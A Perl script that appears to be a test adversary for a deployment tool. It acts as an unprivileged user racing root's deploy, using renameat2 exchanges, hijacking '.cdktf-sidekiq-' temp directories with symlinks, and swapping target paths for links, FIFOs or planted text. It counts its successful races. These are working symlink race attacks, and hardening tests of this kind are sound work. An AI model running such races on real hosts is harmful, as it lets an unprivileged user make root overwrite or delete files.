# Actions of an unprivileged user of the host while root deploys: one trick, as fast as possible, until the file STOP exists.
#
#     adversary.pl STOP exchange ONE OTHER      swaps two names, one of them a directory, the other a link
#     adversary.pl STOP desk DIRECTORY VICTIM   removes the directory that root makes in DIRECTORY, and puts links to VICTIM there
#     adversary.pl STOP file PATH VICTIM        puts links to VICTIM, pipes and text in place of PATH
#
# Prints at the end how often it succeeded.
use strict;
use warnings;
use POSIX ();

my ($stop, $trick, $one, $other) = @ARGV;
my %renameat2 = (x86_64 => 316, aarch64 => 276);
my $number = $renameat2{ (POSIX::uname())[4] } or die "no renameat2 known here\n";
my ($times, $turn) = (0, 0);

sub exchange {
    # AT_FDCWD, and the flag RENAME_EXCHANGE.
    return syscall($number, -100, $one, -100, $other, 2) == 0;
}

sub desk {
    opendir(my $directory, $one) or return 0;
    my @desks = grep { /^\.cdktf-sidekiq-/ && !-l "$one/$_" } readdir $directory;
    for my $name (@desks) {
        rename("$one/$name", "$one/.taken-$turn") or next;
        symlink($other, "$one/$name");
        return 1;
    }
    return 0;
}

sub file {
    my $new = "$one.adversary";
    my $kind = $turn % 4;
    if    ($kind == 0) { symlink($other, $new) }
    elsif ($kind == 1) { link($other, $new) or symlink($other, $new) }
    elsif ($kind == 2) { POSIX::mkfifo($new, 0666) }
    elsif (open(my $text, '>', $new)) { print $text "the adversary's\n" }
    return rename($new, $one);
}

my %tricks = (exchange => \&exchange, desk => \&desk, file => \&file);
until ($turn % 64 == 0 && -e $stop) {
    $turn++;
    $times++ if $tricks{$trick}->();
}
print "$times\n";
